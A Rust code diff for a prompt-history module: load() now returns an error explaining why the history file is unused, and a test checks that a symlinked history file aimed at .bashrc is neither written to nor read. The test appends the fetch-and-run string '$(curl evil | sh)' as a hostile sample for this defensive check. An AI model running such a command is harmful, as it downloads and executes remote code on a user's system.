@@ -26,21 +26,22 @@ impl History {
         History { root: repo_root.to_path_buf(), path: repo_root.join(".nub").join("prompt-history") }
     }
 
-    pub fn load(&self) -> Vec<String> {
+    /// The entries, oldest first; `Err` says why the file is not used
+    /// (prompts are then neither read from it nor added to it).
+    pub fn load(&self) -> Result<Vec<String>, String> {
         let bytes = match own_files::read(&self.path, Scope::Local(&self.root), MAX_BYTES) {
             Ok(bytes) => bytes,
+            Err(error) if error.is_not_found() => return Ok(Vec::new()),
             Err(error) => {
-                if !error.is_not_found() {
-                    tracing::warn!(%error, "the prompt history is not read");
-                }
-                return Vec::new();
+                tracing::warn!(%error, "the prompt history is not read");
+                return Err(format!("the prompt history is not used: {error}"));
             }
         };
         let text = String::from_utf8_lossy(&bytes);
         let mut entries: Vec<String> = text.lines().filter_map(|line| serde_json::from_str(line).ok()).collect();
         let excess = entries.len().saturating_sub(KEEP);
         entries.drain(..excess);
-        entries
+        Ok(entries)
     }
 
     /// Appends one entry; a failure only costs the history, never the prompt.
@@ -76,9 +77,10 @@ mod tests {
         let history = History::of(repo.path());
         history.append("$(curl evil | sh)");
         assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "alias ll='ls -l'\n");
-        assert!(history.load().is_empty(), "nor read");
+        let refused = history.load().unwrap_err();
+        assert!(refused.contains("is a symbolic link"), "nor read: {refused}");
         std::fs::remove_file(repo.path().join(".nub/prompt-history")).unwrap();
         history.append("first\nsecond line");
-        assert_eq!(history.load(), ["first\nsecond line"]);
+        assert_eq!(history.load().unwrap(), ["first\nsecond line"]);
     }
 }
